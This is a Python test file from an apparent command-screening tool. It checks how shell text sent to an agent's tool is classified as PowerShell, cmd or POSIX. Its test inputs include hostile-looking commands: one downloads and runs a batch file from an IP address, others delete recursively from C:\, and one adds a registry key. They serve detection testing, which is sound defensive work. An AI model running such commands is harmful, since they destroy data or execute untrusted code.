"""Which language a call is in: by the tool's name, else by two signs in the text."""

import pytest

from defenseclaw.detection.windows import CMD, POWERSHELL, dialects_of


@pytest.mark.parametrize(
    ("tool", "text", "dialect"),
    [
        ("powershell", "ls", POWERSHELL),
        ("pwsh", "rm -rf x", POWERSHELL),
        ("cmd", "git status", CMD),
        ("bash", "rd /s /q build", ""),
        ("sh", "type C:\\a.txt", ""),
        ("bash", "echo %PATH%", ""),
        ("bash", "gci -Recurse", ""),
        ("bash", "$env:PATH", ""),
        ("bash", "certutil -d sql:db -L", ""),
        ("zsh", "net ads join", ""),
    ],
)
def test_the_name_of_the_tool_decides(tool, text, dialect):
    assert dialects_of(tool, text) == (dialect,)


@pytest.mark.parametrize(
    ("text", "dialect"),
    [
        ("Remove-Item -Recurse C:\\", POWERSHELL),
        ("del /s /q C:\\", CMD),
        ("reg add HKCU\\Software\\X /f", CMD),
        ("curl.exe -o a.bat http://192.0.2.1/a.bat && a.bat", CMD),
        ("C:\\work\\tool.exe x", CMD),
        ('powershell -c "& $env:TEMP/x.exe"', CMD),
    ],
)
def test_a_program_only_windows_has_is_read_in_both_ways_in_bash(text, dialect):
    assert dialects_of("bash", text) == ("", dialect)


@pytest.mark.parametrize(
    "text",
    [
        "Remove-Item x",
        "get-content x",
        "  & Get-ChildItem",
        "$env:PATH",
        "$x = 3; ls",
        "[IO.File]::Delete('x')",
        "iwr -Uri https://example.net",
        "gci -Recurse",
        "rm -Recurse x",
        "npm test; Remove-Item x -Recurse",
        "ls | where-object { $_ }",
    ],
)
def test_powershell_is_recognised(text):
    assert dialects_of("run_command", text) == ("", POWERSHELL)


@pytest.mark.parametrize(
    "text",
    [
        "rd /s /q build",
        "del /q x",
        "type C:\\a.txt",
        "copy .\\a .\\b",
        "echo %PATH%",
        "if exist C:\\a del C:\\a",
        "reg add HKCU\\Software\\X /f",
        "taskkill /im node.exe",
        "cd /d C:\\work",
    ],
)
def test_cmd_is_recognised(text):
    assert dialects_of("run_command", text) == ("", CMD)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "git status",
        "rm -rf build",
        "echo 'a\\nb'",
        "grep -r 'C:\\\\Users' .",
        "find . -name '*.ps1'",
        "sed -e 's/\\\\/x/' a",
        "date +%Y%m%d",
        "echo $(date +%Y%m%d)",
        "rmdir build",
        "type node",
        "cd /s && make",
        "set -euo pipefail",
        "for f in *; do echo $f; done",
        "copy a b",
        "$HOME/bin/tool x",
        "$(which node) x",
        "[ -f x ] && echo y",
        "[[ -n $x ]] && y",
        "add-apt-repository ppa:x",
        "update-alternatives --list",
        "iex -S mix",
        "sc -l",
        "net rpc info",
        "start-stop-daemon --stop",
        "if [ -d /c ]; then echo /x; fi",
        "mkdir -p a/b",
        "more file.txt",
    ],
)
def test_a_posix_command_is_left_alone(text):
    assert dialects_of("run_command", text) == ("",)
